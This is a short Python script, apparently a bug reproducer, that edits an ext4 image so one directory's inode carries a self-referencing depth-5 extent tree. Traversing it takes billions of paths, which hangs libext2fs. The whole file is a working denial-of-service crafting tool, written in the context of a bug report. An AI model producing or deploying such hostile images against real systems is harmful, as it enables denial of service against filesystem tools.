#!/usr/bin/env python3
"""Turns a directory of a small ext4 image into a looping extent tree.

    hostile-ext4.py IMAGE INODE-BLOCK INODE-OFFSET DIR-BLOCK

(the inode's place from `debugfs -R "imap DIR"`, its data block from
`debugfs -R "stat DIR"`).  The inode gets an extent tree of depth 5 whose
index entries all point at one block per level, down to a leaf that maps
the directory's real block: 4 * 340^4 paths to walk, which kept libext2fs
busy for days (issue 16 item 3).  4096-byte blocks; the five blocks used
are the last but 20 of a fresh 64 MiB filesystem, which are free."""
import struct
import sys

img, inode_block, inode_off, dir_block = sys.argv[1], int(sys.argv[2]), int(sys.argv[3], 0), int(sys.argv[4])
BS = 4096
d = bytearray(open(img, "rb").read())
nblocks = len(d) // BS
blocks = [nblocks - 20 + k for k in range(5)]   # B0 (leaf) .. B4


def header(entries, mx, depth):
    return struct.pack("<HHHHI", 0xF30A, entries, mx, depth, 0)


leaf = header(1, 340, 0) + struct.pack("<IHHI", 0, 1, 0, dir_block)
d[blocks[0] * BS:blocks[0] * BS + len(leaf)] = leaf
for k in range(1, 5):
    blk = header(340, 340, k) + b"".join(struct.pack("<IIHH", i, blocks[k - 1], 0, 0) for i in range(340))
    d[blocks[k] * BS:blocks[k] * BS + len(blk)] = blk
ib = header(4, 4, 5) + b"".join(struct.pack("<IIHH", i, blocks[4], 0, 0) for i in range(4))
at = inode_block * BS + inode_off + 0x28
d[at:at + 60] = ib.ljust(60, b"\0")
open(img, "wb").write(d)
